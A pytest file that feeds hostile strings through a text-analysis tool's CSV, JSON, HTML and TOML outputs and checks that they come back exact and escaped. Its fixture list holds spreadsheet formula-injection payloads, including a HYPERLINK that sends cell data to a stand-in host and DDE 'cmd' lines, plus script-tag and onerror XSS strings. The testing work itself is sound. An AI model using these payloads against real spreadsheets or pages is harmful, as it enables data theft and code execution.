"""Hostile text through every writer and back (issue 31): paragraphs.csv, topics.json,
manifest.json, the report's data, the compare page and `curate --toml` each give back exactly
the texts, authors, titles and labels that went in."""

from __future__ import annotations

import base64
import gzip
import json
import re
import tomllib
from pathlib import Path

import pytest
from markupsafe import escape

import themescope
from themescope.corpus import read_corpus

from .helpers import SAMPLE, quick_run_args, run_cli

# What a spreadsheet takes for a formula, what a browser takes for markup, what a terminal
# acts on, and the escape marks themselves.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=tabbed",
    "'=already quoted",
    "''two quotes",
    "</script><script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "NEL\x85 CSI\x9b2J bidi\u202eevil",
    '"quoted", with, commas',
]
TITLE = '=cmd|"/C calc"!A0 <b>美俄</b>\x85關係'
LABEL = "=Strategy <pivot>\x85\u202e"


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory) -> tuple[Path, list[dict]]:
    """The sample's paragraphs as records, the hostile strings at the start of texts and as
    authors, with a curation naming a topic by a hostile label."""
    root = tmp_path_factory.mktemp("round-trip")
    (question,) = read_corpus([SAMPLE]).questions
    records = []
    for a, answer in enumerate(question.answers):
        author = HOSTILE[a % len(HOSTILE)]
        for p, paragraph in enumerate(answer.paragraphs):
            text = paragraph.text
            if p == 0:
                text = f"{HOSTILE[(a + 3) % len(HOSTILE)]} {text}"
            records.append({"question": TITLE, "author": author, "text": text})
    inputs = root / "hostile.jsonl"
    inputs.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in records), encoding="utf-8")
    first = records[0]["text"]
    curation = root / "curation.toml"
    curation.write_text(
        f'[[curation.steps]]\nrename = {{ id = "q1-a1-p1", text = {json.dumps(first[:60])} }}\n'
        f"label = {json.dumps(LABEL)}\n",
        encoding="utf-8",
    )
    out = root / "run"
    proc = run_cli(*quick_run_args(inputs, out, root / "cache"), "--curation", str(curation))
    assert proc.returncode == 0, proc.stderr[-2000:]
    expected = [
        {"author": answer.author, "text": p.text}
        for answer in read_corpus([inputs]).questions[0].answers
        for p in answer.paragraphs
    ]
    assert any(e["text"].startswith("=HYPERLINK") for e in expected)  # the premise: it went in
    return out, expected


def _data_block(page: str, name: str):
    block = re.search(rf'<script type="application/json" id="data-{name}">(.*?)</script>', page, re.S)
    value = json.loads(block.group(1))
    if isinstance(value, dict) and set(value) == {"gzip"}:
        value = json.loads(gzip.decompress(base64.b64decode(value["gzip"])).decode("utf-8"))
    return value


def test_paragraphs_csv_reads_back_exactly(run_dir):
    out, expected = run_dir
    run = themescope.load_run(out)
    assert run.paragraphs["text"].tolist() == [e["text"] for e in expected]
    assert run.paragraphs["author"].tolist() == [e["author"] for e in expected]
    assert LABEL in run.paragraphs["topic_label"].tolist()


def test_topics_and_manifest_read_back_exactly(run_dir):
    out, _ = run_dir
    topics = json.loads((out / "topics.json").read_text("utf-8"))
    assert LABEL in [t["label"] for t in topics["topics"]]
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    assert manifest["title"] == TITLE
    assert manifest["config"]["curation"]["steps"][0]["label"] == LABEL


def test_the_report_data_reads_back_exactly_and_no_markup_escapes(run_dir):
    out, expected = run_dir
    page = (out / "report.html").read_text("utf-8")
    rows = _data_block(page, "rows")
    assert rows["text"] == [e["text"] for e in expected]
    assert [rows["authors"][i] for i in _indices(rows["author"])] == [e["author"] for e in expected]
    assert LABEL in [t["label"] for t in _data_block(page, "topics")]
    assert "window.__pwned=1</script>" not in page and "<img src=x" not in page
    assert str(escape(TITLE)) in page


def _indices(column: dict) -> list[int]:
    import numpy as np

    return np.frombuffer(base64.b64decode(column["bdata"]), dtype="<" + column["dtype"]).tolist()


def test_the_compare_page_and_curate_toml_read_back_exactly(run_dir, tmp_path):
    out, _ = run_dir
    page = tmp_path / "compare.html"
    proc = run_cli("compare", str(out), str(out), "--html", str(page))
    assert proc.returncode == 0, proc.stderr
    text = page.read_text("utf-8")
    assert "window.__pwned=1</script>" not in text and "<img src=x" not in text
    assert str(escape(LABEL)) in text
    shown = run_cli("curate", str(out), "--toml")
    assert shown.returncode == 0, shown.stderr
    assert tomllib.loads(shown.stdout)["curation"]["steps"][0]["label"] == LABEL


def test_paragraphs_csv_read_back_as_an_input_gives_the_texts_without_marks(run_dir):
    out, expected = run_dir
    texts = [p.text for p in read_corpus([out / "paragraphs.csv"]).paragraphs()]
    assert any(t.startswith("=HYPERLINK") for t in texts)
    assert set(texts) <= {e["text"] for e in expected}
